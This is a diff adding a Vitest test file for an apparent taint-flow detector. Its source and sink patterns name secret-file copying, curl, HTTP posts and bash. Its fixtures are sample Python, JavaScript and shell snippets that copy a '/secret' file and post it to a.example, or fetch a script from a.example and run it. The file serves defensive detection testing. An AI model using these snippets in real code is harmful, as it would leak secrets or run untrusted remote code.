@@ -1,0 +1,53 @@
+import { expect, it } from 'vitest'
+
+import { factsOf, flows, spec } from '../testkit.js'
+
+const stores = {
+  ...spec,
+  sources: [
+    { pattern: 'shutil.copy(*secret*)', tag: 'file' },
+    { pattern: 'fs.copyFileSync(*secret*)', tag: 'file' },
+    { pattern: 'pathlib.Path.*(*secret*)', tag: 'file' },
+    { pattern: 'curl', tag: 'remote' },
+  ],
+  sinks: [
+    { pattern: 'requests.post', tag: 'net' },
+    { pattern: 'axios.post', tag: 'net' },
+    { pattern: 'bash', tag: 'exec' },
+  ],
+}
+
+it.each([
+  [
+    'a copy that another library opens',
+    'a.py',
+    'import shutil, sqlite3, requests\nshutil.copy("/secret", "/tmp/c.db")\nrows = sqlite3.connect("/tmp/c.db").execute("select 1").fetchall()\nrequests.post("https://a.example", json=rows)',
+    'shutil.copy(/secret) -> requests.post via a.py:2 a.py:3 a.py:4',
+  ],
+  [
+    'a copy in JavaScript',
+    'a.js',
+    'const fs = require("fs"), axios = require("axios")\nfs.copyFileSync("/secret", "/tmp/c")\naxios.post("https://a.example", fs.readFileSync("/tmp/c"))',
+    'fs.copyFileSync(/secret) -> axios.post via a.js:2 a.js:3',
+  ],
+  [
+    'a path put together with its operator',
+    'a.py',
+    'from pathlib import Path\nimport requests\nrequests.post("https://a.example", data=(Path.home() / "secret").read_text())',
+    'pathlib.Path.read_text(~/secret) -> requests.post via a.py:3',
+  ],
+  [
+    'what was fetched into a file and is run from it',
+    'a.sh',
+    'curl -so /tmp/i.sh https://a.example/i\nbash /tmp/i.sh',
+    'curl(https://a.example/i) -> bash via a.sh:1 a.sh:2',
+  ],
+])('%s', async (_, path, text, flow) => {
+  expect(flows(await factsOf({ [path]: text }, [stores]))).toContain(flow)
+})
+
+it('a file of another name has no mark', async () => {
+  const text =
+    'import shutil, requests\nshutil.copy("/secret", "/tmp/c")\nrequests.post("https://a.example", data=open("/tmp/d"))'
+  expect(flows(await factsOf({ 'a.py': text }, [stores]))).toEqual([])
+})
